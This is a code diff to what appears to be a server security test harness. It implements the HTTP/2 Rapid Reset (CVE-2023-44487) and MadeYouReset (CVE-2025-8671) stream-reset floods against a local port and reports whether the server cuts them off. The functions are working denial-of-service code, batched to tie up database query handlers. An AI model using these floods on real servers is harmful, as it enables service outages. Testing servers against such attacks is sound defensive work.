@@ -114,41 +114,67 @@ export async function partialMessages(port: number): Promise<Outcome & { release
 export const MADE_YOU_RESET = ["window-update-0", "window-update-overflow", "data-after-end", "trailers-without-end-stream"] as const;
 export type MadeYouReset = (typeof MADE_YOU_RESET)[number];
 
+/** How many handlers the target runs now (its IPC stats). */
+export type Active = () => Promise<number>;
+
 /**
- * CVE-2025-8671: complete requests for a long database query, each followed by a frame that
- * makes the server reset the stream itself.
+ * Batches of complete requests for a long database query (pg_sleep), then, once their handlers
+ * run (their queries started or waiting for a connection), a frame for each that ends it.
  */
-export async function madeYouReset(port: number, variant: MadeYouReset): Promise<Outcome> {
+async function requestsThenEnd(p: HostilePeer, count: number, active: Active, end: (id: number) => Buffer, waitForHandlers = true): Promise<number> {
+  const BATCH = 100;
+  let sent = 0;
+  while (sent < count && !p.closed) {
+    const ids = Array.from({ length: Math.min(BATCH, count - sent) }, (_, i) => 1 + 2 * (sent + i));
+    const before = await active();
+    await p.write(Buffer.concat(ids.map((id) => request(id, "sleep:30"))));
+    if (waitForHandlers) await waitFor(async () => (await active()) > before || p.closed, { timeoutMs: 1_000, intervalMs: 5 }).catch(() => undefined);
+    await p.write(Buffer.concat(ids.map(end)));
+    sent += ids.length;
+  }
+  return sent;
+}
+
+/**
+ * CVE-2025-8671: requests for a long database query, each followed (once handlers run) by a frame
+ * that makes the server reset the stream itself.
+ */
+export async function madeYouReset(port: number, variant: MadeYouReset, active: Active): Promise<Outcome> {
   const p = new HostilePeer(port);
   await p.connected;
-  const provoke = (id: number): Buffer => {
-    switch (variant) {
-      case "window-update-0":
-        return Buffer.concat([request(id, "sleep:30"), windowUpdate(id, 0)]);
-      case "window-update-overflow":
-        return Buffer.concat([request(id, "sleep:30"), windowUpdate(id, 0x7fffffff)]);
-      case "data-after-end":
-        return Buffer.concat([request(id, "sleep:30"), data(id, Buffer.from([0]))]);
-      case "trailers-without-end-stream":
-        return Buffer.concat([
-          headers(id, literalBlock(requestFields())),
-          data(id, getStatusMessage("sleep:30")),
-          headers(id, literalBlock([["x-trailer", "1"]])),
-        ]);
-    }
-  };
-  const sent = await flood(p, 3_000 * SCALE, (i) => provoke(1 + 2 * i), 200);
+  let sent: number;
+  if (variant === "trailers-without-end-stream") {
+    // The request never ends, so no handler starts: the reset is provoked before one would.
+    sent = await flood(
+      p,
+      3_000 * SCALE,
+      (i) =>
+        Buffer.concat([
+          headers(1 + 2 * i, literalBlock(requestFields())),
+          data(1 + 2 * i, getStatusMessage("sleep:30")),
+          headers(1 + 2 * i, literalBlock([["x-trailer", "1"]])),
+        ]),
+      200,
+    );
+  } else {
+    const provoke: Record<typeof variant, (id: number) => Buffer> = {
+      "window-update-0": (id) => windowUpdate(id, 0),
+      "window-update-overflow": (id) => windowUpdate(id, 0x7fffffff),
+      "data-after-end": (id) => data(id, Buffer.from([0])),
+    };
+    sent = await requestsThenEnd(p, 3_000 * SCALE, active, provoke[variant]);
+  }
   await p.until(() => p.closed || p.goaway !== undefined, 2_000);
   p.destroy();
   // Ending the connection (any GOAWAY) stops it too: the first provoked reset may be taken for a connection error.
   return { stopped: p.goaway !== undefined || p.closed, saw: `${sent} streams provoked, ${p.resets.size} resets seen, ${describeEnd(p)}` };
 }
 
-/** CVE-2023-44487: complete requests for a long database query, each cancelled at once. */
-export async function rapidReset(port: number): Promise<Outcome> {
+/** CVE-2023-44487: requests for a long database query, each cancelled by the peer once handlers run. */
+export async function rapidReset(port: number, active: Active): Promise<Outcome> {
   const p = new HostilePeer(port);
   await p.connected;
-  const sent = await flood(p, 5_000 * SCALE, (i) => Buffer.concat([request(1 + 2 * i, "sleep:30"), rst(1 + 2 * i, E.CANCEL)]), 200);
+  const sent = await requestsThenEnd(p, 5_000 * SCALE, active, (id) => rst(id, E.CANCEL));
   await p.until(() => p.closed || p.goaway !== undefined, 2_000);
   p.destroy();
   return { stopped: p.goaway !== undefined || p.closed, saw: `${sent} streams opened and reset, ${describeEnd(p)}` };
